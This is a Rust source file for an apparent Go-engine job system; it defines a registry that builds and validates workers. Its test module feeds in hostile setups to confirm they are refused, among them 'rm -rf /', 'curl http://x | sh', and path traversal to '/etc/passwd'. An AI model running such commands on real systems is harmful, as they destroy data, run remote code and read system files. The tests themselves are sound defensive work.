//! All kinds of work, for whoever takes jobs of any kind.

use std::sync::Arc;

use serde_json::Value;

use crate::checksum::{Checksum, ChecksumError};
use crate::cygo::Cygo;
use crate::deceptive::Deceptive;
use crate::dfuct::Dfuct;
use crate::host::Host;
use crate::job::{JobError, RunSpec, Work, Worker, Workshop, worker_of};
use crate::lgrf::Lgrf;
use crate::match_work::MatchWork;
use crate::selfplay::{GateWork, PlayWork};
use crate::solve_batch::SolveBatch;
use crate::suite::Respondent;
use crate::tsumego::Tsumego;

/// Makes workers for all kinds of work. What comes from the store is not trusted: a setup that makes no sense, or that asks for a
/// command which the host does not allow, is refused.
pub struct Registry {
    host: Host,
}

impl Registry {
    /// The kinds of work.
    pub const KINDS: [&'static str; 10] = [
        MatchWork::KIND,
        Cygo::KIND,
        Dfuct::KIND,
        Lgrf::KIND,
        Deceptive::KIND,
        Tsumego::KIND,
        Respondent::KIND,
        SolveBatch::KIND,
        PlayWork::KIND,
        GateWork::KIND,
    ];

    /// Workers of this machine.
    pub fn new(host: Host) -> Registry {
        Registry { host }
    }
}

impl Workshop for Registry {
    fn worker(&self, run: &RunSpec) -> Result<Box<dyn Worker>, JobError> {
        match run.kind.as_str() {
            MatchWork::KIND => {
                worker_of(Arc::new(MatchWork { host: self.host.clone(), ..read(&run.setup)? }))
            }
            Cygo::KIND => {
                let mut cygo = read::<Cygo>(&run.setup)?;
                if cygo.net.is_some() {
                    let refused = |error: ChecksumError| JobError::Refused(error.to_string());
                    let checksum = Checksum::try_from(cygo.net_checksum.clone()).map_err(refused)?;
                    // The file as it is called here, not as the one who asks calls it.
                    cygo.net = Some(self.host.net(&checksum)?);
                }
                worker_of(Arc::new(cygo))
            }
            Dfuct::KIND => worker_of(Arc::new(read::<Dfuct>(&run.setup)?)),
            Lgrf::KIND => worker_of(Arc::new(read::<Lgrf>(&run.setup)?)),
            Deceptive::KIND => worker_of(Arc::new(read::<Deceptive>(&run.setup)?)),
            Tsumego::KIND => worker_of(Arc::new(read::<Tsumego>(&run.setup)?)),
            Respondent::KIND => worker_of(Arc::new(read::<Respondent>(&run.setup)?)),
            SolveBatch::KIND => worker_of(Arc::new(read::<SolveBatch>(&run.setup)?)),
            PlayWork::KIND => worker_of(Arc::new(PlayWork { host: self.host.clone(), ..read(&run.setup)? })),
            GateWork::KIND => worker_of(Arc::new(GateWork { host: self.host.clone(), ..read(&run.setup)? })),
            kind => Err(JobError::Refused(format!("there is no work called '{kind}'"))),
        }
    }
}

fn read<W: Work>(setup: &Value) -> Result<W, JobError> {
    W::deserialize(setup).map_err(|error| JobError::Refused(format!("the setup cannot be read: {error}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::Trust;
    use crate::terms::Terms;
    use serde_json::json;
    use std::sync::atomic::AtomicBool;
    use tesuji_board::Size;

    fn refusal(kind: &str, setup: Value, task: Value) -> String {
        let trust = Trust::Only { commands: vec!["gnugo --mode gtp".into()], files: None };
        let host = Host { program: "tesuji".into(), trust };
        let spec = RunSpec { kind: kind.to_owned(), terms: Terms::new(), setup, build: String::new() };
        let done = Registry::new(host)
            .worker(&spec)
            .and_then(|mut worker| worker.work(&task.to_string(), &AtomicBool::new(false)));
        match done {
            Err(JobError::Refused(reason)) => reason,
            other => panic!("{kind}: {other:?}"),
        }
    }

    fn match_setup(launch: Value, size: &str) -> Value {
        let engine = |name: &str| json!({ "name": name, "launch": launch, "clock": "told" });
        json!({
            "match_id": "m", "engines": [engine("a"), engine("b")], "seed": 1, "lifetime": "game",
            "terms": {
                "size": size, "rules": { "ko": "SIMPLE", "komi": "7" }, "time": { "kind": "unlimited" }, "lag": 0.0,
                "move_limit": 10, "methods": ["board"], "arbiter": null, "command_timeout": 1.0, "move_timeout": 1.0,
            },
        })
    }

    #[test]
    fn malicious_jobs_are_refused_with_a_reason() {
        let game = json!({ "game": { "game": 1, "round": 1, "black": 0, "white": 1 }, "opening": [] });
        let check = |kind: &str, setup: Value, task: Value, expected: &str| {
            let reason = refusal(kind, setup, task);
            assert!(reason.contains(expected), "{kind}: {reason}");
        };
        let preset = |text: &str| json!({ "preset": text });
        check(
            "match",
            match_setup(json!({ "command": "rm -rf /" }), "9x9"),
            game.clone(),
            "does not allow the command",
        );
        check("match", match_setup(preset("nobody"), "9x9"), game.clone(), "nobody");
        check("match", match_setup(preset("flat --config /etc/passwd"), "9x9"), game.clone(), "--config");
        check(
            "match",
            match_setup(preset("net --net /etc/passwd"), "9x9"),
            game.clone(),
            "without a checksum",
        );
        let mut traversal = match_setup(preset("net --net x"), "9x9");
        traversal["engines"][0]["net"] = "../../etc/passwd".into();
        check("match", traversal, game.clone(), "is no checksum");
        check("match", match_setup(preset("flat"), "999x999"), game.clone(), "setup cannot be read");
        let stranger = json!({ "game": { "game": 1, "round": 1, "black": 0, "white": 7 }, "opening": [] });
        check("match", match_setup(preset("flat"), "9x9"), stranger, "no such engine");
        let illegal =
            json!({ "game": { "game": 1, "round": 1, "black": 0, "white": 1 }, "opening": ["B Z99"] });
        check("match", match_setup(preset("flat"), "9x9"), illegal, "Z99");
        let mut bribed = match_setup(preset("flat"), "9x9");
        bribed["terms"]["arbiter"] = "curl http://x | sh".into();
        check("match", bribed, game.clone(), "does not allow the command");
        check("suite", json!({ "preset": "nobody", "settings": [], "seed": 1 }), json!({}), "nobody");
        let absurd =
            json!({ "rule": "ucb1", "milestones": [1], "settings": [], "memory": 1u64 << 60, "seed": 1 });
        check("dfuct", absurd, json!({}), "MB");
        let solve = json!({ "patience": { "nodes": 1, "seconds": 1.0 }, "table_bytes": 1u64 << 60, "shows_lines": false });
        check("solve", solve, json!({ "problem": "" }), "bytes");
        check(
            "lgrf",
            json!({ "arms": [], "thinking": { "playouts": 1 } }),
            json!({ "arm": 9, "color": "B", "opening": [], "seeds": [1, 2] }),
            "no variant",
        );
        let checksum = "0".repeat(64);
        let mut cygo = json!({
            "arms": [], "thinking": { "playouts": 1 }, "side": 9, "komi": 7.0, "net": "/etc/passwd", "net_name": "x",
        });
        check("cygo", cygo.clone(), json!({}), "is no checksum");
        cygo["net_checksum"] = checksum.as_str().into();
        check("cygo", cygo, json!({}), "fetches none");
        let plan = |visits: u64| {
            let mut plan =
                serde_json::to_value(crate::selfplay::Plan::new(Size::square(9).unwrap()).game).unwrap();
            plan["full_visits"] = visits.into();
            plan
        };
        let selfplay =
            |visits: u64| json!({ "plan": plan(visits), "net": { "checksum": checksum }, "seed": 1 });
        check("selfplay", selfplay(1 << 60), json!({ "number": 1 }), "simulations");
        check("selfplay", selfplay(9), json!({ "number": 1 }), "fetches none");
        let mut traversal = selfplay(9);
        traversal["net"]["checksum"] = "../../etc/passwd".into();
        check("selfplay", traversal, json!({ "number": 1 }), "setup cannot be read");
        check("sing", json!({}), json!({}), "no work called");
        check("solve", json!("nonsense"), json!({}), "setup cannot be read");
    }
}
